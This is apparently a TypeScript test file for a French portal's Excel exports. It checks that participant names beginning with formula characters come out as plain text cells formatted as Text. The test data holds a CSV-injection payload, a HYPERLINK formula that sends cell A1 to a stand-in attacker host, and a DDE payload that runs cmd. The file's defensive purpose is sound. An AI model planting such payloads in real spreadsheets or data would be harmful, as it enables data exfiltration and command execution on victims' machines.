import type { CheckupRow, HistoryRow } from '@portail/contract/schemas/checkups';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { participants } from '../src/db/schema';
import { createTestContext, type TestContext } from './helper';
import { headersOf } from './participants-fixtures';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext();
});
afterAll(async () => ctx.close());

const WIDE = { dateDebut: '2000-01-01', dateFin: '2100-12-31' };
const LOGIN = 'corr.etablissement';

/**
 * Names the back office may hold although the form refuses them (a record older than the rule, an
 * import): each begins with a character that makes a spreadsheet evaluate the cell (OWASP, CSV
 * injection). The database trims nothing, so the TAB one stays as it is (a CR is not tried here: XML
 * readers turn it into a line feed, so it cannot come back as written; the contract's test covers it).
 */
const LAST_NAME = '=HYPERLINK("http://attaquant.example/?d="&A1;"Cliquez")';
const FIRST_NAME = "@SUM(1+1)*cmd|' /C calc'!A0";
const NAMES: [lastName: string, firstName: string][] = [
  [LAST_NAME, FIRST_NAME],
  ...['+33 6 12 34 56 78', '-2+3', '\t=1+1'].map((name): [string, string] => [name, name]),
];

async function firstListed<T>(url: string): Promise<T> {
  const reply = await ctx.app.inject({
    method: 'GET',
    url,
    headers: await headersOf(ctx, LOGIN),
    query: { ...WIDE, page: '0', size: '1' },
  });
  expect(reply.statusCode, reply.body).toBe(200);
  const [first] = reply.json<{ items: T[] }>().items;
  if (!first) throw new Error(`nothing listed by ${url}`);
  return first;
}

async function exported(url: string): Promise<ExcelJS.Worksheet> {
  const reply = await ctx.app.inject({
    method: 'POST',
    url,
    headers: await headersOf(ctx, LOGIN),
    payload: { ...WIDE, langue: 'fr_FR' },
  });
  expect(reply.statusCode, reply.body).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(reply.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

/** Every cell of the sheet: none may be a formula, whatever the data. */
function everyCell(sheet: ExcelJS.Worksheet): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

async function rename(id: number, lastName: string, firstName: string) {
  await ctx.database.db.update(participants).set({ lastName, firstName }).where(eq(participants.id, id));
}

describe('the Excel exports keep formula-like text as text', () => {
  it.each([
    ['/api/excel-participant-bilan', '/api/bilansCorrespondant', 3, 4],
    ['/api/excel-participant-historique-bilan', '/api/historiqueBilansCorrespondant', 2, 3],
  ] as const)('%s', async (url, listUrl, lastColumn, firstColumn) => {
    const row = await firstListed<CheckupRow | HistoryRow>(listUrl);
    const participantId = 'idParticipant' in row ? row.idParticipant : row.id;
    const [before] = await ctx.database.db
      .select({ lastName: participants.lastName, firstName: participants.firstName })
      .from(participants)
      .where(eq(participants.id, participantId));
    if (!before) throw new Error('no participant');
    try {
      for (const [lastName, firstName] of NAMES) {
        await rename(participantId, lastName, firstName);
        const sheet = await exported(url);
        const cells = everyCell(sheet);
        expect(cells.length).toBeGreaterThan(10);
        expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
        const found = cells.filter((cell) => cell.value === lastName && Number(cell.col) === lastColumn);
        expect(found.length, JSON.stringify(lastName)).toBeGreaterThan(0);
        for (const cell of found) {
          const rowCells = sheet.getRow(Number(cell.row));
          const [last, first] = [rowCells.getCell(lastColumn), rowCells.getCell(firstColumn)];
          // The text the user typed, shown as it is, and formatted as Text (Excel's "@"), so that
          // editing the cell in a spreadsheet does not turn it into a formula either.
          expect([last.type, last.value, last.numFmt]).toEqual([ExcelJS.ValueType.String, lastName, '@']);
          expect([first.type, first.value, first.numFmt]).toEqual([ExcelJS.ValueType.String, firstName, '@']);
        }
        // Ordinary text keeps the general format.
        const header = sheet.getRow(1).getCell(lastColumn);
        expect(header.value).toBe('Nom');
        expect(header.numFmt ?? 'General').not.toBe('@');
      }
    } finally {
      await rename(participantId, before.lastName, before.firstName);
    }
  });
});
